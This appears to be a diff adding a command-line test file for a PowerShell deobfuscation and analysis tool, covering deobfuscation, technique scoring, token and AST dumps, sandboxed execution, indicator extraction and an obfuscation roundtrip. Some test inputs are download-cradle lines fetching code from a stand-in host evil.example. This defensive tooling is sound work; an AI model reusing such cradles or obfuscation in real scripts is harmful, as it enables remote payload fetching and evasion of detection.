@@ -1,0 +1,73 @@
+The CLI deobfuscates a piped script:
+
+  $ echo "iex ('write'+'-host hi')" | invoke_deobfuscation deobfuscate -
+  Write-Host hi
+
+Scoring reports techniques and levels:
+
+  $ printf "%s" "ie\`x ([Convert]::FromBase64String('eA=='))" | invoke_deobfuscation score -
+  score: 5
+  levels: L1 L3
+  technique: ticking
+  technique: alias
+  technique: encode-base64
+
+Tokens are dumped with kinds and extents:
+
+  $ echo "write-host hello" | invoke_deobfuscation tokens -
+  Command            [0,10)         "write-host"
+  CommandArgument    [11,16)        "hello"
+  NewLine            [16,17)        "\n"
+
+The AST dump shows the paper's node taxonomy:
+
+  $ echo "('a'+'b')" | invoke_deobfuscation ast -
+  ScriptBlockAst "('a'+'b')\n"
+    PipelineAst "('a'+'b')"
+      CommandExpressionAst "('a'+'b')"
+        ParenExpressionAst "('a'+'b')"
+          PipelineAst "'a'+'b'"
+            CommandExpressionAst "'a'+'b'"
+              BinaryExpressionAst "'a'+'b'"
+                StringConstantExpressionAst "'a'"
+                StringConstantExpressionAst "'b'"
+
+The sandbox records network events without performing them:
+
+  $ echo "(New-Object Net.WebClient).DownloadString('http://evil.example/x') | Out-Null" | invoke_deobfuscation run -
+  event: http-get:http://evil.example/x
+
+Key information extraction:
+
+  $ echo "powershell -File C:\\x\\stage.ps1 # fetch http://evil.example/a.ps1 at 10.0.0.1" | invoke_deobfuscation keyinfo -
+  ps1: C:\x\stage.ps1
+  ps1: http://evil.example/a.ps1
+  powershell: powershell
+  url: http://evil.example/a.ps1
+  ip: 10.0.0.1
+
+Obfuscate-then-deobfuscate roundtrip, deterministic by seed:
+
+  $ echo "write-host roundtrip" | invoke_deobfuscation obfuscate --seed 9 -t encode-bxor - | invoke_deobfuscation deobfuscate -
+  Write-Host roundtrip
+
+Ablation flags change the engine:
+
+  $ printf "%s" "\$a = 'se'+'cret'; write-host \$a" | invoke_deobfuscation deobfuscate --no-tracing -
+  $a = 'secret'
+  Write-Host $a
+
+Canonical formatting re-renders a script from its AST:
+
+  $ echo "if(1){  write-host   hi }" | invoke_deobfuscation format -
+  if (1) { write-host hi }
+
+JSON analysis report:
+
+  $ echo "iex ('write-host '+'hi')" | invoke_deobfuscation report - | head -6
+  {
+    "changed": true,
+    "score_before": 3,
+    "score_after": 0,
+    "techniques_before": ["alias", "concatenate"],
+    "techniques_after": [],
